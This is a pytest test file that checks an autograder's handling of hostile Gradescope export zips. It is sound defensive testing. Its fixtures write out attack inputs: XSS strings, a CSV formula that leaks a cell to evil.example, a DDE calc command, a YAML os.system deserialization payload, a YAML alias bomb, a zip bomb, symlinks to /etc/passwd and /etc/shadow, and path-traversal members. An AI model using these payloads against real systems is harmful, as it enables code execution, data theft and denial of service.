"""Hostile Gradescope exports graded by the real `batch` command: what lands where, and what a TA opens.

Expected everywhere: the batch finishes, writes only inside --out, flags what
was bad in summary.md and skips it, and its CSV and Markdown cells are inert.
"""

import csv
import errno
import json
import os
import shutil
import stat
import subprocess
import zipfile

import pytest

from autograder.engine.commands.report import csv_text, md_cell
from autograder.engine.commands.exports import WHOLE_EXPORT, discover_export, load_metadata, safe_id

from .helpers import HW2_CLI, solution_files

EXPORT = "assignment_export"
HTML = '<script>alert(1)</script> <img src=x onerror=alert(1)> [click](javascript:alert(1)) a|b'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def stubs(homework) -> dict:
    return {n: (homework.handout / n).read_text() for n in homework.files}


def raising(homework, message: str) -> dict:
    """The stubs, with a forward whose exception message the class report will quote."""
    files = stubs(homework)
    files["network.py"] += f"\n\ndef _forward(self, y0, t):\n    raise ValueError({message!r})\n\nNetwork.forward = _forward\n"
    return files


def person(name, email="s@example.edu", sid="1") -> list:
    """Gradescope's submitters entry; JSON strings are YAML double-quoted scalars."""
    return ["  :submitters:", f"  - :name: {json.dumps(name)}", f"    :email: {json.dumps(email)}",
            f"    :sid: {json.dumps(sid)}"]


def write_export(path, folders: dict, metadata_lines=None, extra=()) -> None:
    """A zip like Gradescope's: EXPORT/<folder>/<files> and EXPORT/submission_metadata.yml.

    `extra` adds raw members: (ZipInfo or name, bytes).
    """
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for folder, files in folders.items():
            for name, text in files.items():
                archive.writestr(f"{EXPORT}/{folder}/{name}", text)
        if metadata_lines is not None:
            archive.writestr(f"{EXPORT}/submission_metadata.yml", "\n".join(metadata_lines) + "\n")
        for info, data in extra:
            archive.writestr(info, data)


def symlink_member(name: str, target: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def batch(export, out, *flags, env=None):
    done = subprocess.run([*HW2_CLI, "batch", str(export), "--out", str(out),
                           "--jobs", "2", *flags], capture_output=True, text=True, timeout=600,
                          env=dict(os.environ, **(env or {})))
    assert done.returncode == 0, done.stderr[-3000:]
    return done


def rows(path) -> list:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def files_under(folder) -> set:
    return {p for p in folder.rglob("*")}


def flagged(summary: str) -> str:
    assert "## Flagged" in summary, summary[:2000]
    return summary.split("## Flagged", 1)[1].split("\n## ", 1)[0]


# -- one export with everything at once, through `batch --similarity` -------------------

@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory, homework):
    root = tmp_path_factory.mktemp("hostile-class")
    export = root / "export.zip"
    folders = {
        "submission_1": solution_files(homework),
        "submission_2": raising(homework, HTML + "\nsecond line"),
        "submission_bomb": stubs(homework),
        "submission_links": stubs(homework),
        "sub <img src=x onerror=alert(1)>": stubs(homework),
    }
    meta = ["submission_1:", *person(FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
            "submission_2:", *person(HTML, "\tx@example.edu", "+1234"),
            "submission_bomb:", *person("Bomb"),
            "submission_links:", *person("Links"),
            "sub <img src=x onerror=alert(1)>:", *person("Angle"),
            "../../escaped_results:", *person("Dots"),
            "/tmp/absolute_results:", *person("Absolute"),
            "never_uploaded:", *person("Missing")]
    extra = [
        (f"{EXPORT}/submission_bomb/zeros.bin", bytes(3 * 2**20)),  # 3 MiB of zeros: ~3 KiB zipped
        (symlink_member(f"{EXPORT}/submission_links/network.py.link", "/etc/passwd"), b"/etc/passwd"),
        (f"{EXPORT}/submission_links/../../../escaped.txt", b"outside"),
        ("/tmp/absolute_member.txt", b"outside"),
    ]
    write_export(export, folders, meta, extra)
    out = root / "out"
    done = batch(export, out, "--similarity", "--similarity-threshold", "0",
                 env={"AUTOGRADER_EXPORT_MAX_MEMBER_MB": "1"})
    return root, out, done


def test_results_land_only_inside_out(hostile_class):
    root, out, _ = hostile_class
    assert {p.name for p in root.iterdir()} == {"export.zip", "out"}
    assert not (root.parent / "escaped.txt").exists() and not (root.parent / "escaped_results.json").exists()
    assert not os.path.exists("/tmp/absolute_results.json") and not os.path.exists("/tmp/absolute_member.txt")
    for path in files_under(out):
        assert path.resolve().is_relative_to(out.resolve()) and not path.is_symlink(), path
    names = sorted(p.name for p in (out / "results").iterdir())
    assert names == ["sub__img_src_x_onerror_alert_1__.json", "submission_1.json", "submission_2.json"]


def test_bad_members_and_folders_are_flagged_and_skipped(hostile_class):
    _, out, done = hostile_class
    section = flagged((out / "summary.md").read_text())
    lines = {line.split(" | ")[0].strip("| "): line for line in section.splitlines() if line.startswith("| ")}
    def why(raw_id):
        return lines[md_cell(safe_id(raw_id, set()))]
    assert "over the 1,048,576 allowed" in why("submission_bomb")
    assert "symbolic link" in why("submission_links") and "leaves the export" in why("submission_links")
    assert "outside the export" in why("../../escaped_results")
    assert "outside the export" in why("/tmp/absolute_results")
    assert "not in the export" in why("never_uploaded")
    assert "absolute\\_member.txt" in lines[md_cell(WHOLE_EXPORT)]
    table = rows(out / "grades.csv")
    assert sorted(r["id"] for r in table) == ["sub__img_src_x_onerror_alert_1__", "submission_1", "submission_2"]
    assert "flagged submission_bomb" in done.stderr


def test_csv_text_cells_are_neutralised_and_scores_stay_numbers(hostile_class):
    _, out, _ = hostile_class
    by_id = {r["id"]: r for r in rows(out / "grades.csv")}
    first, second = by_id["submission_1"], by_id["submission_2"]
    assert first["names"] == "'" + FORMULA and first["emails"].startswith("'@") and first["sids"] == "'-2+3"
    assert second["emails"] == "'\tx@example.edu" and second["sids"] == "'+1234"
    for row in by_id.values():
        float(row["total"])  # a number, never quoted
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
    assert float(first["total"]) == 100 and float(second["total"]) == 0


def test_summary_has_no_live_html_links_or_broken_tables(hostile_class):
    _, out, _ = hostile_class
    summary = (out / "summary.md").read_text()
    assert "alert" in summary  # the text is there, shown as text
    for live in ("<script", "<img", "](javascript", "onerror=alert(1)>"):
        assert live not in summary, live
    blocks, block = [], []
    for line in summary.splitlines() + [""]:
        if line.startswith("|"):
            block.append(line)
        elif block:
            blocks, block = blocks + [block], []
    assert len(blocks) >= 4
    for block in blocks:  # every row keeps its header's number of cells (pipes escaped)
        cells = {line.replace("\\|", "").count("|") for line in block}
        assert cells == {block[1].count("|")}, block
    assert "Similar submissions" in summary and "Angle" in summary


# -- hostile metadata files ------------------------------------------------------------

@pytest.mark.parametrize("yaml_text, reason", [
    ("submission_1: !!python/object/apply:os.system ['touch /tmp/pwned_by_yaml']\n", "not plain YAML"),
    ("a: &a ['lol','lol','lol','lol','lol','lol','lol','lol','lol']\n"
     "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
     "submission_1:\n  :submitters:\n  - :name: *c\n", "aliases"),
])
def test_hostile_metadata_is_flagged_and_the_class_graded_without_names(yaml_text, reason, tmp_path, homework):
    export = tmp_path / "export.zip"
    with zipfile.ZipFile(export, "w") as archive:
        for folder in ("submission_1", "submission_2"):
            for name, text in stubs(homework).items():
                archive.writestr(f"{EXPORT}/{folder}/{name}", text)
        archive.writestr(f"{EXPORT}/submission_metadata.yml", yaml_text)
    out = tmp_path / "out"
    batch(export, out)
    assert not os.path.exists("/tmp/pwned_by_yaml")
    table = rows(out / "grades.csv")
    assert sorted(r["id"] for r in table) == ["submission_1", "submission_2"]
    assert all(r["names"] == "" for r in table)
    section = flagged((out / "summary.md").read_text())
    assert reason in section and "graded without names" in section


# -- the pieces, directly --------------------------------------------------------------

def test_metadata_over_its_size_cap_is_refused(tmp_path, monkeypatch):
    from autograder.engine.commands import exports as submissions
    monkeypatch.setattr(submissions, "MAX_METADATA_BYTES", 100)
    path = tmp_path / "submission_metadata.yml"
    path.write_text("x: " + "y" * 200)
    with pytest.raises(ValueError, match="over the 100 allowed"):
        load_metadata(path)


def test_safe_ids_are_plain_unique_file_names():
    taken: set = set()
    ids = [safe_id(raw, taken) for raw in ("../../x", "/etc/passwd", "a b", "a_b", "..", "", "ok-1.2")]
    assert ids == ["_.._x", "_etc_passwd", "a_b", "a_b-2", "submission", "submission-2", "ok-1.2"]
    assert all("/" not in i and not i.startswith(".") for i in ids)


def patch_sizes(export, sizes: dict) -> None:
    """Make the local and central headers of the members named in `sizes` declare that many bytes."""
    raw = bytearray(export.read_bytes())
    for member, size in sizes.items():
        name = member.encode()
        for signature, size_at, length_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
            at = raw.find(signature)
            while at != -1:
                length = int.from_bytes(raw[at + length_at:at + length_at + 2], "little")
                if raw[at + name_at:at + name_at + length] == name:
                    raw[at + size_at:at + size_at + 4] = size.to_bytes(4, "little")
                at = raw.find(signature, at + 4)
    export.write_bytes(bytes(raw))


def test_lying_headers(tmp_path):
    """A member whose header understates its size is cut there by zipfile, then fails its CRC."""
    export = tmp_path / "export.zip"
    files = {"network.py": "x = 1\n", "attack.py": "y = 2\n"}
    write_export(export, {f"s{i}": files for i in range(4)}, extra=[(f"{EXPORT}/s0/data.bin", bytes(200_000))])
    patch_sizes(export, {f"{EXPORT}/s0/data.bin": 1000})
    submissions, flags = discover_export(export, tmp_path / "a")
    assert [s.id for s in submissions] == ["s1", "s2", "s3"]
    assert flags[0].id == "s0" and "data.bin" in flags[0].reason and "CRC" in flags[0].reason
    assert not (tmp_path / "a" / EXPORT / "s0" / "data.bin").exists()


def sized_class(path, big: int) -> None:
    """The big upload first in the zip (`big` files of 10 bytes), then three of two files (6 bytes each)."""
    with zipfile.ZipFile(path, "w") as archive:
        for i in range(big):
            archive.writestr(f"{EXPORT}/s0/data/{i}.txt", "0123456789")
        for k in (1, 2, 3):
            archive.writestr(f"{EXPORT}/s{k}/network.py", "x = 1\n")
            archive.writestr(f"{EXPORT}/s{k}/attack.py", "y = 2\n")


@pytest.mark.parametrize("variable, value, reason", [
    ("AUTOGRADER_EXPORT_MAX_MEMBERS", "10", "past 10, the bound that protects this machine"),
    ("AUTOGRADER_EXPORT_MAX_TOTAL_MB", str(60 / 2**20), "past 60 bytes unpacked, the bound that protects"),
])
def test_the_export_wide_bound_leaves_out_the_largest_upload_only(variable, value, reason, tmp_path, monkeypatch):
    """First in the zip, 8 files of 10 bytes: with room for 10 members or 60 bytes in all, it is the one
    left out (its true reason named), and every classmate that fits is unpacked."""
    export = tmp_path / "export.zip"
    sized_class(export, 8)
    monkeypatch.setenv(variable, value)
    submissions, flags = discover_export(export, tmp_path / "out")
    assert [s.id for s in submissions] == ["s1", "s2", "s3"]
    assert [f.id for f in flags] == ["s0"] and reason in flags[0].reason, flags
    assert not (tmp_path / "out" / EXPORT / "s0").exists()


@pytest.mark.parametrize("variable, value, enough, reason", [
    ("AUTOGRADER_EXPORT_MAX_SUBMISSION_MEMBERS", "7", "8", "has 8 files and folders, over the 7 allowed per submission"),
    ("AUTOGRADER_EXPORT_MAX_SUBMISSION_MB", str(79 / 2**20), str(80 / 2**20),
     "unpacks to 80 bytes, over the 79 allowed per submission"),
])
def test_per_submission_caps_and_their_overrides(variable, value, enough, reason, tmp_path, monkeypatch):
    export = tmp_path / "export.zip"
    sized_class(export, 8)
    monkeypatch.setenv(variable, value)
    submissions, flags = discover_export(export, tmp_path / "out")
    assert [s.id for s in submissions] == ["s1", "s2", "s3"]
    assert [f.id for f in flags] == ["s0"] and reason in flags[0].reason and variable in flags[0].reason, flags
    monkeypatch.setenv(variable, enough)  # 8 members or 80 bytes: now it fits
    submissions, flags = discover_export(export, tmp_path / "out")
    assert [s.id for s in submissions] == ["s0", "s1", "s2", "s3"] and not flags


def test_default_per_submission_caps(tmp_path, monkeypatch):
    """10,000 members and 256 MiB per submission, as documented (headers that declare 5 x 60 MiB:
    nothing is written, nothing compressed)."""
    for variable in ("MEMBER_MB", "SUBMISSION_MB", "SUBMISSION_MEMBERS", "TOTAL_MB", "MEMBERS"):
        monkeypatch.delenv(f"AUTOGRADER_EXPORT_MAX_{variable}", raising=False)
    export = tmp_path / "export.zip"
    sized_class(export, 10_001)
    submissions, flags = discover_export(export, tmp_path / "a")
    assert [s.id for s in submissions] == ["s1", "s2", "s3"]
    assert "has 10,001 files and folders, over the 10,000 allowed per submission" in flags[0].reason
    write_export(export, {"s1": {"network.py": "x = 1\n"}, "s2": {f"{i}.bin": "z" for i in range(5)}})
    patch_sizes(export, {f"{EXPORT}/s2/{i}.bin": 60 * 2**20 for i in range(5)})
    submissions, flags = discover_export(export, tmp_path / "b")
    assert [s.id for s in submissions] == ["s1"]
    assert "unpacks to 314,572,800 bytes, over the 268,435,456 allowed per submission" in flags[0].reason


def test_csv_and_markdown_helpers():
    assert csv_text("-0") == "'-0" and csv_text("Ada") == "Ada" and csv_text("\rx") == "'\rx"
    cell = md_cell("<b>x</b>|y\nz [a](javascript:b) https://evil.example")
    assert "<" not in cell and "\n" not in cell and "\\|" in cell and "](" not in cell and "https://" not in cell


def test_regrade_csv_text_cells_are_neutralised(hostile_class, tmp_path):
    """`diff OLD NEW` on the hostile class, after one test of submission_1 changed."""
    _, out, _ = hostile_class
    new = tmp_path / "new"
    shutil.copytree(out, new)
    path = new / "results" / "submission_1.json"
    raw = json.loads(path.read_text())
    raw["tests"][0]["score"], raw["tests"][0]["status"] = 0.0, "failed"
    raw["score"] -= raw["tests"][0]["max_score"]
    path.write_text(json.dumps(raw))
    done = subprocess.run([*HW2_CLI, "diff", str(out), str(new)],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    (row,) = rows(new / "regrade.csv")
    assert row["submitters"] == "'" + FORMULA and float(row["old total"]) == 100 and float(row["new total"]) < 100


def test_flags_survive_shards_and_merge_once(tmp_path, homework):
    export = tmp_path / "export.zip"
    write_export(export, {"s1": stubs(homework), "s2": stubs(homework), "s3": stubs(homework)},
                 extra=[(symlink_member(f"{EXPORT}/s3/helper.py", "/etc/shadow"), b"/etc/shadow")])
    for k in (1, 2):
        batch(export, tmp_path / f"shard{k}", "--shard", f"{k}/2")
    done = subprocess.run([*HW2_CLI, "batch", "merge", str(tmp_path / "shard1"),
                           str(tmp_path / "shard2"), "--out", str(tmp_path / "all")],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    section = flagged((tmp_path / "all" / "summary.md").read_text())
    assert section.count("symbolic link") == 1 and "| s3 |" in section
    assert sorted(r["id"] for r in rows(tmp_path / "all" / "grades.csv")) == ["s1", "s2"]


# -- one upload never stops or starves a class ------------------------------------------

LONG = "a" * 270  # over NAME_MAX (255 bytes on Linux)


@pytest.mark.parametrize("members, reason", [
    ([(f"s2/{LONG}/", "")], "has a name of 270 bytes, over the 255 this filesystem allows"),
    ([(f"s2/{LONG}", "x")], "has a name of 270 bytes, over the 255"),
    ([("s2/" + "/".join(["b" * 200] * 25) + "/f", "x")], "bytes once unpacked, over the 4,095 this system allows"),
    ([("s2/x", "1"), ("s2/x/", "")], "'assignment_export/s2/x/' is a folder over a file of the same name"),
    ([("s2/x/", ""), ("s2/x", "1")], "'assignment_export/s2/x' is a file over a folder of the same name"),
    ([("s2/x", "1"), ("s2/x/y", "1")], "lies inside 'assignment_export/s2/x', which is a file, not a folder"),
    ([("s2/x", "1"), ("s2/x", "2")], "has the name of another member (a duplicate"),
    ([("s2/network.py", "CORRUPT ME")], "is damaged in the zip (its CRC check failed)"),
], ids=["long-folder", "long-file", "long-path", "folder-over-file", "file-over-folder", "file-under-file",
        "duplicate", "crc"])
def test_each_member_error_costs_its_submission_only(members, reason, tmp_path, recwarn):
    """s2's member cannot be written as it is: s2 is flagged with the true reason, s1 and s3 unpacked."""
    export = tmp_path / "export.zip"
    with zipfile.ZipFile(export, "w") as archive:  # stored: the CRC case corrupts the bytes in place
        for name, data in [("s1/network.py", "x = 1\n"), *members, ("s3/network.py", "x = 1\n")]:
            archive.writestr(f"{EXPORT}/{name}", data)
    export.write_bytes(export.read_bytes().replace(b"CORRUPT ME", b"CORRUPTED!"))
    submissions, flags = discover_export(export, tmp_path / "out")
    assert [s.id for s in submissions] == ["s1", "s3"]
    assert [f.id for f in flags] == ["s2"] and reason in flags[0].reason, flags
    assert (tmp_path / "out" / EXPORT / "s3" / "network.py").read_text() == "x = 1\n"


@pytest.mark.parametrize("error, reason", [
    (OSError(errno.EACCES, "Permission denied"), "could not be written (PermissionError: Permission denied)"),
    (OSError(errno.ENOSPC, "No space left on device"), "could not be written: the disk the export is unpacked to is full"),
    (OSError(errno.EILSEQ, "Invalid or incomplete multibyte"), "has a name this filesystem cannot hold"),
    (OSError(errno.EROFS, "Read-only file system"), "could not be written (OSError: Read-only file system)"),
    (MemoryError(), "could not be unpacked (MemoryError: )"),
], ids=["EACCES", "ENOSPC", "EILSEQ", "EROFS", "not-an-OSError"])
def test_any_error_while_writing_a_member_costs_its_submission_only(error, reason, tmp_path, monkeypatch):
    export = tmp_path / "export.zip"
    write_export(export, {s: {"network.py": "x = 1\n", "attack.py": "y = 2\n"} for s in ("s1", "s2", "s3")})
    real_open = os.open

    def failing_open(path, *args, **kwargs):
        if "/s2/attack.py" in str(path):
            raise error
        return real_open(path, *args, **kwargs)
    monkeypatch.setattr(os, "open", failing_open)
    submissions, flags = discover_export(export, tmp_path / "out")
    assert [s.id for s in submissions] == ["s1", "s3"]
    assert [f.id for f in flags] == ["s2"] and "'assignment_export/s2/attack.py' " + reason in flags[0].reason, flags


def test_a_metadata_key_too_long_for_the_filesystem(tmp_path):
    """Named in the metadata with a 270-byte folder: flagged for its members' names (or, with none, as
    not in the export); the classmates keep their names."""
    export = tmp_path / "export.zip"
    write_export(export, {"submission_1": {"network.py": "x = 1\n"}},
                 ["submission_1:", *person("Ada"), f"{LONG}:", *person("Long"), f"b{LONG}:", *person("None")],
                 extra=[(f"{EXPORT}/{LONG}/network.py", "x = 1\n")])
    submissions, flags = discover_export(export, tmp_path / "out")
    assert [(s.id, s.names) for s in submissions] == [("submission_1", "Ada")]
    reasons = {f.id: f.reason for f in flags}
    assert "has a name of 270 bytes" in reasons[safe_id(LONG, set())]
    assert "is not in the export" in reasons[safe_id("b" + LONG, set())]


def class_zip(path, homework, first: dict, odd: dict) -> None:
    """An export: `first` ({folder: [(name, text)]}) first in the zip, then honest classmates (the
    solution, the stubs, the solution) and the `odd` folders (the solution and their own members)."""
    good = solution_files(homework)
    honest = {"submission_1": good, "submission_2": stubs(homework), "submission_9": good}
    with zipfile.ZipFile(path, "w") as archive:  # stored
        for folder, members in first.items():
            for name, text in members:
                archive.writestr(f"{EXPORT}/{folder}/{name}", text)
        for folder in sorted([*honest, *odd]):
            for name, text in [*honest.get(folder, good).items(), *odd.get(folder, [])]:
                archive.writestr(f"{EXPORT}/{folder}/{name}", text)
        meta = []
        for folder in [*first, *sorted([*honest, *odd])]:
            meta += [f"{folder}:", *person(f"Student {folder[-1]}")]
        archive.writestr(f"{EXPORT}/submission_metadata.yml", "\n".join(meta) + "\n")


def flag_lines(out) -> dict:
    section = flagged((out / "summary.md").read_text())
    return {line.split(" | ")[0].strip("| "): line for line in section.splitlines()
            if line.startswith("| submission\\_")}


def graded(out) -> dict:
    return {r["id"]: (float(r["total"]), r["names"]) for r in rows(out / "grades.csv")}


HONEST = {"submission_1": (100, "Student 1"), "submission_2": (0, "Student 2"), "submission_9": (100, "Student 9")}


@pytest.fixture(scope="module")
def crowded_class(tmp_path_factory, homework):
    """Through `batch`, with a TMPDIR of its own: first in the zip an upload of 100,000 files, then
    honest classmates."""
    root = tmp_path_factory.mktemp("crowded-class")
    export, out, temp = root / "export.zip", root / "out", root / "tmp"
    temp.mkdir()
    class_zip(export, homework, {"submission_0": [(f"data/{i}.txt", "1") for i in range(100_000)]}, {})
    done = batch(export, out, env={"TMPDIR": str(temp)})
    return out, temp, done


def test_one_upload_of_100_000_files_never_starves_the_class(crowded_class):
    out, _, done = crowded_class
    assert graded(out) == HONEST
    lines = flag_lines(out)
    assert list(lines) == [md_cell("submission_0")]
    assert "has 100,000 files and folders, over the 10,000 allowed per submission" in lines[md_cell("submission_0")]
    assert "flagged submission_0: its upload has 100,000 files" in done.stderr
    assert not (out / "_export" / EXPORT / "submission_0").exists()  # not one of its files written


def test_batch_leaves_nothing_in_the_temp_folder(crowded_class):
    _, temp, _ = crowded_class
    assert sorted(os.listdir(temp)) == []


def test_odd_member_names_never_stop_the_class(tmp_path, homework):
    """Through `batch`: a 270-byte folder name, a folder over a file, a file over a folder."""
    export, out = tmp_path / "export.zip", tmp_path / "out"
    class_zip(export, homework, {}, {"submission_3": [(f"{LONG}/", "")],
                                     "submission_4": [("notes", "x"), ("notes/", "")],
                                     "submission_5": [("notes/", ""), ("notes", "x")]})
    done = batch(export, out)
    assert graded(out) == HONEST
    lines = flag_lines(out)
    assert sorted(lines) == [md_cell(f"submission_{k}") for k in (3, 4, 5)]
    assert "has a name of 270 bytes, over the 255" in lines[md_cell("submission_3")]
    assert "is a folder over a file of the same name" in lines[md_cell("submission_4")]
    assert "is a file over a folder of the same name" in lines[md_cell("submission_5")]
    assert "flagged submission_4: zip member 'assignment_export/submission_4/notes/' is a folder" in done.stderr
